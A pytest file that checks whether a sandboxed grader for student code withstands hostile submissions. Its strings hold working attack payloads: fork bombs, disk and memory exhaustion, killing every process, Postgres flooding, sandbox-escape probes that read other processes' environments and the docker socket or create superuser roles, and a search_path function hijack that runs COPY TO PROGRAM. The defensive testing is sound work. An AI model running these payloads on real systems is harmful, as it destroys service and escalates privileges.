# ruff: noqa: E501  (the attacks are programs in strings)
"""Submissions that attack the grader: none raises its grade, hangs the run or touches a neighbor.

All are graded in one run, by two workers, with honest neighbors in between; the tests look at their grades.
"""

from __future__ import annotations

import json
import os
import socket
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import psutil
import pytest

from checks.kit.lessons.lesson import find_lesson
from checks.kit.lessons.paths import ROOT, STATE
from checks.kit.report.model import Result
from checks.kit.service import sandbox
from checks.kit.submissions.jobs import Job, RunSettings, files_of, fingerprint, make_job
from checks.kit.submissions.model import Files, Grade
from checks.kit.submissions.work.local import grade_here
from checks.kit.submissions.work.worker import GraderFailed

WAY, WHY_NOT = sandbox.detect()
pytestmark = [pytest.mark.attack, pytest.mark.skipif(not WAY, reason=WHY_NOT)]

LESSON = find_lesson(0)
SECRET = "the-graders-own-secret"
ELSEWHERE = "127.0.0.1"

# run at import, in front of the solution's or the broken lesson's own code
SIDE_JOBS = {
    "the disk is filled": """
        import contextlib, os
        for folder in ("/tmp", "/dev/shm", ".", "/var/tmp", "/work", os.path.expanduser("~")):
            with contextlib.suppress(OSError):
                for number in range(100):
                    with open(f"{folder}/{number}.full", "wb", buffering=0) as file:
                        file.write(b"x" * (16 << 20))
        print("filled", sum(file.stat().st_size for file in os.scandir("/tmp") if file.is_file()) >> 20)
        """,
    "everybody is killed": """
        import contextlib, os, signal
        for pid in (-1, 1):
            for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
                with contextlib.suppress(OSError):
                    os.kill(pid, number)
        """,
    "connections run out": """
        import asyncio, os, threading
        def hoard():
            import asyncpg
            async def many():
                url = os.environ.get("DATABASE_URL", "").replace("+asyncpg", "")
                held = []
                while True:
                    try:
                        held.append(await asyncpg.connect(url))
                    except Exception:
                        await asyncio.sleep(0.1)
            asyncio.run(many())
        threading.Thread(target=hoard, daemon=True).start()
        """,
    "garbage goes to the proxy": """
        import contextlib, os, socket, urllib.parse
        where = urllib.parse.urlsplit(os.environ.get("DATABASE_URL", ""))
        rubbish = [b"\\xff" * 4096, b"\\0\\0\\0\\x08\\x04\\xd2\\x16\\x2f" * 99, b"\\x7f\\xff\\xff\\xff" * 3, b"GET / HTTP/1.1\\r\\n\\r\\n"]
        for words in rubbish:
            with contextlib.suppress(OSError, ValueError), socket.create_connection((where.hostname, where.port)) as line:
                line.sendall(words)
        """,
    "the kit is patched": """
        import sys
        from checks.kit.service.inside import child, fork_server, spec
        for module in (child, fork_server, spec):
            for name in list(vars(module)):
                if not name.startswith("__") and callable(getattr(module, name)) and name not in ("RequestEvents", "connect"):
                    setattr(module, name, lambda *given, **named: None)
        sys.modules["pytest"] = sys.modules["checks.kit.grading"] = sys
        import builtins
        builtins.AssertionError = type("AssertionError", (Exception,), {"__new__": lambda *given: None})
        """,
}

SQL = """
        import os, threading
        import psycopg
        def run(sql, times=1):
            def once():
                with psycopg.connect(os.environ["DATABASE_URL"].replace("+asyncpg", ""), autocommit=True) as connection:
                    connection.execute(sql)
            crowd = [threading.Thread(target=once) for _ in range(times)]
            for one in crowd: one.start()
            for one in crowd: one.join()
            raise SystemExit("done with " + sql[:20])
        """

# in front of the broken lesson: it passes one check of eight, and no attack gives it more
HOSTILE = {
    "endless loop at import": "while True: pass",
    "fork bomb": """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
        """,
    "fork bomb that leaves its group": """
        import os
        while True:
            try:
                if os.fork() == 0:
                    os.setsid()
            except OSError:
                pass
        """,
    "eight gigabytes": "hoard = bytearray(8 << 30)",
    "many processes with a gigabyte each": """
        import os, time
        for _ in range(12):
            if os.fork() == 0:
                hoard = bytearray(b"x") * (1 << 30)
                time.sleep(600)
        time.sleep(600)
        """,
    "endless log": """
        import threading
        def chatter():
            while True:
                print("\\x1b]0;owned\\x07\\x1b[2J" + "x" * 10_000)
        threading.Thread(target=chatter, daemon=True).start()
        """,
    "gone at import": "import os; os._exit(0)",
    "success at import": "raise SystemExit(0)",
    "the database is filled": SQL
    + "run('CREATE TABLE h (x text); ALTER TABLE h ALTER x SET STORAGE EXTERNAL; "
    + "DO $$ BEGIN LOOP INSERT INTO h SELECT repeat(md5(n::text), 1000) FROM generate_series(1, 100) n; END LOOP; END $$')",
    "temporary files are filled": SQL
    + "run('SELECT count(*) FROM (SELECT repeat(md5(n::text), 100) x FROM generate_series(1, 1e9) n ORDER BY 1) y')",
    "the server's memory is filled": SQL
    + "run(\"SET work_mem = '100GB'; SELECT array_agg(repeat('x', 100000) || n) FROM generate_series(1, 1e9) n\", times=8)",
    "the server's log is filled": SQL
    + "run('DO $$ BEGIN LOOP RAISE LOG $x$%$x$, repeat($x$x$x$, 100000); END LOOP; END $$')",
    "its database is a template": SQL
    + "import psycopg.sql\nrun('DO $$ BEGIN EXECUTE format($x$ALTER DATABASE %I IS_TEMPLATE true$x$, current_database()); END $$')",
    "a backend listens to no signal": SQL
    + "run(\"SELECT length(translate(repeat('a', 200000000), repeat('b', 200000000), ''))\", times=2)",
    "its database is locked": SQL
    + "run(\"BEGIN; DO $$ BEGIN EXECUTE format($x$COMMENT ON DATABASE %I IS 'x'$x$, current_database()); END $$; SELECT pg_sleep(100000)\")",
    "one long line": "print('x' * 20_000_000)\nraise SystemExit(1)",
    "the server loops": SQL + "run('DO $$ BEGIN LOOP END LOOP; END $$', times=20)",
    "its interpreter is a shell": """
        import os, sys
        os.execv("/bin/sh", ["sh", "-c", "echo ready; sleep 600"])
        """,
}

ENDLESS_BODY = """
from fastapi import FastAPI
from fastapi.responses import StreamingResponse

app = FastAPI()


async def flood():
    while True:
        yield b"x" * 1_000_000


@app.get("/{path:path}")
async def anything(path: str):
    return StreamingResponse(flood())
"""

STRANGE_LETTERS = """
from fastapi import FastAPI, Response

app = FastAPI()


@app.get("/{path:path}")
async def anything(path: str):
    return Response(b"\\\\ud800", status_code=500, headers={"content-type": "text/plain; charset=unicode_escape"})
"""

ENDLESS_REQUEST = """
from fastapi import FastAPI

app = FastAPI()


@app.get("/{path:path}")
async def anything(path: str):
    while True:
        pass
"""

OWN_FUNCTIONS = """
import os
import psycopg

with psycopg.connect(os.environ["DATABASE_URL"].replace("+asyncpg", ""), autocommit=True) as connection:
    connection.execute("ALTER ROLE CURRENT_USER SET search_path = public, pg_catalog")
    connection.execute(
        "CREATE OR REPLACE FUNCTION public.quote_literal(text) RETURNS text LANGUAGE sql AS "
        "$$SELECT $q$'x'; COPY (SELECT 1) TO PROGRAM 'id > OWNED'; --$q$::text$$"
    )
"""

PROBES = """
import glob, json, os, socket, subprocess, sys
import psycopg

found = {}

def tried(name, attempt):
    try:
        found[name] = repr(attempt())[:200]
    except BaseException as error:
        found[name] = f"refused: {type(error).__name__}"

def sql(statement, user=None, database=None):
    url = os.environ["DATABASE_URL"].replace("+asyncpg", "")
    options = {name: value for name, value in (("user", user), ("dbname", database)) if value}
    with psycopg.connect(url, autocommit=True, connect_timeout=5, **options) as connection:
        return connection.execute(statement).fetchall() if statement.startswith("SELECT") else connection.execute(statement).statusmessage

def others():
    return [name for (name,) in sql("SELECT datname FROM pg_database WHERE datdba <> current_user::regrole")]

tried("solutions", lambda: open("ROOT/solutions/lesson_00/app/main.py").read())
tried("checks", lambda: os.listdir("ROOT/checks/lesson_00"))
tried("state", lambda: os.listdir("ROOT/.workbook"))
tried("other submissions", lambda: [p for p in glob.glob("/tmp/**", recursive=True) if os.path.isfile(p) and not p.startswith((os.getcwd(), "/tmp/pycache", "ROOT/"))][0])
tried("environment of others", lambda: [open(f"/proc/{pid}/environ").read() for pid in os.listdir("/proc") if pid.isdigit() and pid != str(os.getpid())][0])
tried("memory of the parent", lambda: open("/proc/1/mem", "rb").seek(0x10000))
tried("descriptors of the parent", lambda: os.listdir("/proc/1/fd"))
tried("write to the system", lambda: open("/usr/lib/evil", "w"))
tried("write to the packages", lambda: open(os.path.join(os.path.dirname(psycopg.__file__), "evil.py"), "w"))
tried("write to the kit", lambda: open("ROOT/checks/kit/service/inside/child.py", "a"))
tried("write to the lesson", lambda: open("app/evil.py", "w"))
tried("internet", lambda: socket.create_connection(("1.1.1.1", 53), 3))
tried("names", lambda: socket.getaddrinfo("example.com", 80))
tried("the grader's ports", lambda: socket.create_connection(("127.0.0.1", PORT), 3))
tried("the grader's addresses", lambda: socket.create_connection(("HOST", PORT), 3))
tried("abstract sockets", lambda: socket.socket(socket.AF_UNIX).connect("\\0bookshop-neighbor"))
tried("docker", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"))
tried("raw sockets", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tried("root", lambda: os.setuid(0))
tried("mount", lambda: subprocess.run(["mount", "-t", "tmpfs", "x", "/tmp"], check=True, capture_output=True))
tried("namespaces", lambda: subprocess.run(["unshare", "-Ur", "true"], check=True, capture_output=True))
tried("hidden memory", lambda: os.memfd_create("hoard"))
tried("shared memory", lambda: __import__("mmap").mmap(-1, 4096))
tried("zeroes as memory", lambda: __import__("mmap").mmap(os.open("/dev/zero", os.O_RDWR), 4096))
tried("semaphores", lambda: __import__("ctypes").CDLL(None, use_errno=True).semget(0, 100, 0o600) >= 0 or os.stat("/no semaphores"))
tried("sockets of a hypervisor", lambda: socket.socket(40, socket.SOCK_STREAM))
tried("a thousand descriptors", lambda: [os.open("/dev/null", os.O_RDONLY) for _ in range(1000)][0])
tried("tracing", lambda: __import__("ctypes").CDLL(None, use_errno=True).ptrace(16, 1, 0, 0) == 0 or os.stat("/no ptrace"))
tried("higher limits", lambda: __import__("resource").setrlimit(__import__("resource").RLIMIT_AS, (-1, -1)))
tried("administrator", lambda: sql("SELECT 1", user="postgres"))
tried("maintenance database", lambda: sql("SELECT 1", database="postgres"))
tried("a neighbor's database", lambda: [sql("SELECT 1", database=name) for name in others() if name.startswith("workbook_")][0])
tried("drop others", lambda: [sql(f'DROP DATABASE "{name}" WITH (FORCE)') for name in others()][0])
tried("make a role", lambda: sql("CREATE ROLE evil SUPERUSER"))
tried("run a program", lambda: sql("COPY (SELECT 1) TO PROGRAM 'id'"))
tried("pickle", lambda: None)
print("environment", json.dumps(dict(os.environ)))
print("found " + json.dumps(found))
raise SystemExit(1)
"""


def files(folder: Path, prefix: str = "", **more: str) -> Files:
    content = {path.relative_to(folder).as_posix(): path.read_bytes() for path in (folder / "app").glob("*.py")}
    content["schema.sql"] = (folder / "schema.sql").read_bytes()
    lines = [line.removeprefix("        ") for line in prefix.splitlines()]
    content["app/main.py"] = "\n".join([*lines, ""]).encode() + content["app/main.py"]
    return content | {name: text.encode() for name, text in more.items()}


class Outside:
    """What a probe should not reach: a port and an abstract socket of ours."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("", 0))
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind("\0bookshop-neighbor")
        self.unix.listen()
        self.port = self.tcp.getsockname()[1]
        addresses = [each.address for card in psutil.net_if_addrs().values() for each in card]
        self.host = next((each for each in addresses if "." in each and not each.startswith("127.")), "127.0.0.1")

    def close(self) -> None:
        self.tcp.close()
        self.unix.close()


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    outside = Outside()
    yield outside
    outside.close()


def submissions(outside: Outside) -> dict[str, Files]:
    """By name; the neighbors stand between them."""
    probes = PROBES.replace("ROOT", str(ROOT)).replace("PORT", str(outside.port)).replace("HOST", outside.host)
    broken, right = LESSON.folder, LESSON.solution
    attacks = {name: files(right, code) for name, code in SIDE_JOBS.items()}
    attacks |= {f"{name}, on the broken lesson": files(broken, code) for name, code in SIDE_JOBS.items()}
    attacks |= {name: files(broken, code) for name, code in HOSTILE.items()}
    attacks |= {
        "endless body": files(broken, **{"app/main.py": ENDLESS_BODY}),
        "endless request": files(broken, **{"app/main.py": ENDLESS_REQUEST}),
        "strange letters": files(broken, **{"app/main.py": STRANGE_LETTERS}),
        "probes": files(broken, **{"app/main.py": probes}),
        "its own grader": files(
            broken,
            **{
                "conftest.py": "import os; os._exit(0)",
                "pytest.ini": "[pytest]\naddopts = --collect-only",
                "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--collect-only'",
                "sitecustomize.py": "raise SystemExit(0)",
                "checks/lesson_00/test_start.py": "async def test_it_starts_and_answers(): pass",
                "checks/kit/plugin.py": "raise SystemExit(0)",
                "httpx.py": "raise SystemExit(0)",
                "lesson.toml": "number = 0",
            },
        ),
        "a schema of its own": files(right, **{"schema.sql": "SELECT pg_sleep(3600)"}),
    }
    return attacks


@pytest.fixture(scope="module")
async def grades(outside: Outside) -> AsyncIterator[dict[str, list[Grade]]]:
    """The grades by the name of the attack; under "neighbor" the honest ones, one after each attack."""
    settings = RunSettings(fingerprint(), True, 45)
    names: dict[str, str] = {}
    todo: list[Job] = []
    for number, (name, content) in enumerate(submissions(outside).items()):
        neighbor = files(LESSON.solution, f"# neighbor {number}")
        for who, job in (
            (name, make_job(LESSON, content, settings)),
            ("neighbor", make_job(LESSON, neighbor, settings)),
        ):
            names[job.key] = who
            todo.append(job)
    given: dict[str, list[Grade]] = {}

    def ended(job: Job, grade: Grade | GraderFailed) -> None:
        assert isinstance(grade, Grade), f"{names[job.key]}: {grade}"
        given.setdefault(names[job.key], []).append(grade)

    os.environ["SECRET_OF_THE_GRADER"] = SECRET
    try:
        await grade_here(todo, settings, ended, workers=2)
    finally:
        del os.environ["SECRET_OF_THE_GRADER"]
    yield given


def passed(grade: Grade) -> set[str]:
    return {result.name for result in grade.report.results if result.outcome == "passed"}


def printed(result: Result) -> str:
    """All evidence as text, of which the log of the service is a part."""
    return "\n".join(line.text for section in result.evidence for line in section.lines)


def for_display(grade: Grade) -> str:
    verdicts = [
        f"{r.name}: {r.outcome} {r.finding.happened if r.finding else r.blocked_by}\n{printed(r)}"
        for r in grade.report.results
    ]
    return "\n".join([grade.stopped, *verdicts])


def test_neighbors_notice_nothing(grades: dict[str, list[Grade]]) -> None:
    for grade in grades["neighbor"]:
        assert grade.passed == grade.total == len(LESSON.checks), for_display(grade)


@pytest.mark.parametrize("name", [*HOSTILE, *(f"{name}, on the broken lesson" for name in SIDE_JOBS), "endless body",
                                  "endless request", "strange letters", "its own grader"])  # fmt: skip
def test_no_attack_raises_a_grade(grades: dict[str, list[Grade]], name: str) -> None:
    [grade] = grades[name]
    allowed = {entry.name for entry in LESSON.checks if entry.unsolved == "passes"}
    if name == "strange letters":
        allowed = {"test_it_leaves_when_asked"}  # an app of a few lines of its own, which does
    assert passed(grade) <= allowed, for_display(grade)
    assert grade.total == len(LESSON.checks)


@pytest.mark.parametrize("name", ["the disk is filled", "garbage goes to the proxy"])
def test_a_right_fix_stays_right_whatever_else_it_tries(grades: dict[str, list[Grade]], name: str) -> None:
    [grade] = grades[name]
    assert grade.passed == grade.total, for_display(grade)


def test_what_takes_too_much_is_stopped_and_says_why(grades: dict[str, list[Grade]]) -> None:
    assert "memory" in grades["many processes with a gigabyte each"][0].stopped
    assert "more than 64 MB" in for_display(grades["endless body"][0])
    assert "MemoryError" in for_display(grades["eight gigabytes"][0])


def test_tables_that_are_not_the_learners_to_change_are_ours(grades: dict[str, list[Grade]]) -> None:
    [grade] = grades["a schema of its own"]
    assert grade.passed == grade.total, for_display(grade)


async def test_migrations_run_with_the_learners_rights(tmp_path: Path) -> None:
    """The administrator calls none of the learner's functions, whatever their names are."""
    lesson = find_lesson(5)
    settings = RunSettings(fingerprint(), True, 120)
    evil = files_of(lesson.solution)
    owned = tmp_path.parent / "owned"
    code = OWN_FUNCTIONS.replace("OWNED", str(owned)).encode()
    job = make_job(lesson, {**evil, "migrations/env.py": code + evil["migrations/env.py"]}, settings)
    given: list[Grade | GraderFailed] = []
    await grade_here([job], settings, lambda _, grade: given.append(grade), workers=1)
    [grade] = given
    assert isinstance(grade, Grade)
    assert not owned.exists()
    assert "test_the_password_may_hold_anything" in {result.name for result in grade.report.results}


def test_an_endless_log_neither_hangs_nor_commands_a_terminal(grades: dict[str, list[Grade]]) -> None:
    from checks.kit.submissions.results.text import verdict_text

    [grade] = grades["endless log"]
    assert "\x1b" not in verdict_text(grade.report).whole
    assert max(len(printed(result)) for result in grade.report.results) < 1 << 20


def test_the_probes_find_nothing(grades: dict[str, list[Grade]]) -> None:
    [grade] = grades["probes"]
    log = next(printed(result) for result in grade.report.results if result.evidence)
    assert SECRET not in log
    environment = json.loads(next(line for line in log.splitlines() if line.startswith("environment "))[12:])
    assert set(environment) <= {"PATH", "HOME", "TMPDIR", "LANG", "PYTHONUNBUFFERED", "DATABASE_URL"}
    found = json.loads(next(line for line in log.splitlines() if line.startswith("found "))[6:])
    assert found.pop("pickle") == "None", "a probe that is refused nothing is seen to be so"
    reached = {name: what for name, what in found.items() if not what.startswith("refused")}
    assert not reached


def test_nothing_is_left_running_or_lying_about(grades: dict[str, list[Grade]]) -> None:
    assert grades
    left = [process for process in psutil.process_iter(["cmdline"]) if "--sandboxed" in (process.info["cmdline"] or [])]
    orphans = [process for process in left if process.ppid() in (1, os.getpid())]
    _, alive = psutil.wait_procs(orphans, timeout=10)  # who has just been killed needs a moment to be gone
    assert not alive
    records = list((STATE / "run").glob(f"{os.getpid()}-*.run"))
    folders = [Path(path.read_text().splitlines()[1]) for path in records]  # of runs of this process that still go on
    assert not [job for folder in folders for job in folder.glob("job-*")]
